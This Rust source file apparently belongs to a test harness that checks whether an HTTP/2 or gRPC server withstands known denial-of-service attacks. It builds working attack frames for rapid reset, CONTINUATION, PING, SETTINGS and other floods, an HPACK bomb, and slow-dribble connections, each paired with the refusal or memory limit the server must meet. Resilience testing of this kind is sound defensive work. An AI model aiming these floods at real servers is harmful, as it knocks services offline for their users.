//! The attacks, with what a server has to make of each.

use super::frames::*;
use super::peer::{dribble, flood};
use gannet::BoxFuture;
use std::net::SocketAddr;
use std::time::Duration;

/// One attack.
pub struct Attack {
    /// What it is called, with its number where it has one.
    pub name: &'static str,
    /// How many connections make it at once.
    pub connections: usize,
    /// What the server must do.
    pub expected: Expected,
    /// By how much the server's memory may grow meanwhile, in MiB.
    pub most_mib: u64,
    /// One connection's part, for at most this long. Gives the time after which the server ended it.
    pub run: fn(SocketAddr, Duration) -> BoxFuture<'static, Option<Duration>>,
}

/// What a server must do with an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Expected {
    /// It ends the connection within so many seconds.
    Refused(u64),
    /// It may go on, for what it costs is bounded.
    Bounded,
}

use Expected::{Bounded, Refused};

/// Floods of small things: four connections, refused at once.
const fn flooding(
    name: &'static str,
    run: fn(SocketAddr, Duration) -> BoxFuture<'static, Option<Duration>>,
) -> Attack {
    Attack { name, connections: 4, expected: Refused(5), most_mib: 64, run }
}

macro_rules! forever {
    ($next:expr) => {
        |address, most| Box::pin(flood(address, hello(None), true, most, move |n| Some($next(n))))
    };
}

/// All of them.
pub const ATTACKS: &[Attack] = &[
    flooding(
        "rapid reset (CVE-2023-44487)",
        forever!(|n| {
            [open(n, "EmptyCall"), frame(RST_STREAM, 0, stream(n), 8u32.to_be_bytes())].concat()
        }),
    ),
    flooding(
        "provoked resets (CVE-2025-8671)",
        forever!(|n| { [open(n, "EmptyCall"), window_update(stream(n), 0)].concat() }),
    ),
    flooding("streams beyond the limit", forever!(|n| open(n, "StreamingInputCall"))),
    flooding(
        "CONTINUATION flood (CVE-2024-27316)",
        forever!(|n| match n {
            0 => frame(HEADERS, 0, 1, call("EmptyCall")),
            _ => frame(CONTINUATION, 0, 1, [0x82; 1000]),
        }),
    ),
    flooding("PING flood (CVE-2019-9512)", forever!(|_| frame(PING, 0, 0, [7; 8]))),
    Attack {
        name: "PING flood, answers unread",
        connections: 4,
        expected: Refused(5),
        most_mib: 64,
        run: |address, most| {
            Box::pin(flood(address, hello(None), false, most, |_| Some(frame(PING, 0, 0, [7; 8]))))
        },
    },
    flooding("SETTINGS flood (CVE-2019-9515)", forever!(|_| frame(SETTINGS, 0, 0, []))),
    flooding(
        "RST_STREAM flood (CVE-2019-9514)",
        forever!(|n| match n {
            0 => open(0, "EmptyCall"),
            _ => frame(RST_STREAM, 0, 1, 8u32.to_be_bytes()),
        }),
    ),
    flooding(
        "PRIORITY flood (CVE-2019-9513)",
        forever!(|n: u32| frame(PRIORITY, 0, 1, [0, 0, 0, 0, n as u8])),
    ),
    flooding("WINDOW_UPDATE flood", forever!(|_| window_update(0, 1))),
    flooding(
        "empty DATA flood (CVE-2019-9518)",
        forever!(|n| match n {
            0 => open(0, "StreamingInputCall"),
            _ => frame(DATA, 0, 1, []),
        }),
    ),
    flooding("HPACK bomb", forever!(|n| { frame(HEADERS, END_HEADERS | END_STREAM, stream(n), bomb()) })),
    flooding(
        "table size above the announced",
        forever!(|n| {
            frame(HEADERS, END_HEADERS, stream(n), [&[0x3f, 0xe2, 0x1f][..], &call("EmptyCall")].concat())
        }),
    ),
    Attack {
        name: "windows of zero",
        connections: 1,
        expected: Bounded,
        // Twice what may wait for a connection, and the messages before they were encoded.
        most_mib: 256,
        run: |address, most| {
            Box::pin(flood(address, hello(Some((4, 0))), true, most, |n| (n < 250).then(|| large_answer(n))))
        },
    },
    Attack {
        name: "windows of one byte at a time",
        connections: 4,
        expected: Refused(5),
        most_mib: 64,
        run: |address, most| {
            Box::pin(flood(address, hello(Some((4, 0))), true, most, |n| {
                Some(if n == 0 { large_answer(0) } else { window_update(1, 1) })
            }))
        },
    },
    Attack {
        name: "one-byte DATA on 10,000 streams",
        connections: 40,
        expected: Bounded,
        most_mib: 128,
        run: |address, most| {
            let pieces =
                (0..250).map(|n| [open(n, "StreamingInputCall"), frame(DATA, 0, stream(n), [0])].concat());
            Box::pin(dribble(address, std::iter::once(hello(None)).chain(pieces), most))
        },
    },
    Attack {
        name: "a header block that never ends",
        connections: 50,
        expected: Refused(11),
        most_mib: 32,
        run: |address, most| {
            let half = frame(HEADERS, 0, 1, call("EmptyCall"));
            Box::pin(dribble(address, [hello(None), half[..40].to_vec()], most))
        },
    },
    Attack {
        name: "a preface that never ends",
        connections: 500,
        expected: Refused(11),
        most_mib: 32,
        run: |address, most| Box::pin(dribble(address, [PREFACE[..10].to_vec()], most)),
    },
    Attack {
        name: "half-open connections",
        connections: 500,
        expected: Refused(11),
        most_mib: 32,
        run: |address, most| Box::pin(dribble(address, [], most)),
    },
];

fn open(number: u32, method: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream(number), call(method))
}

/// A unary call whose answer is a mebibyte: SimpleRequest.response_size, field 2.
fn large_answer(number: u32) -> Vec<u8> {
    let message = [0, 0, 0, 0, 4, 0x10, 0x80, 0x80, 0x40];
    [open(number, "UnaryCall"), frame(DATA, END_STREAM, stream(number), message)].concat()
}

/// A field of 3,900 bytes into the table, then named thousands of times.
fn bomb() -> Vec<u8> {
    let mut block = call("EmptyCall");
    block.extend([0x40, 1, b'x', 127, 0xbd, 0x1d]);
    block.resize(block.len() + 127 + 0x3d + (0x1d << 7), b'v');
    block.resize(16_000, 0xbe);
    block
}
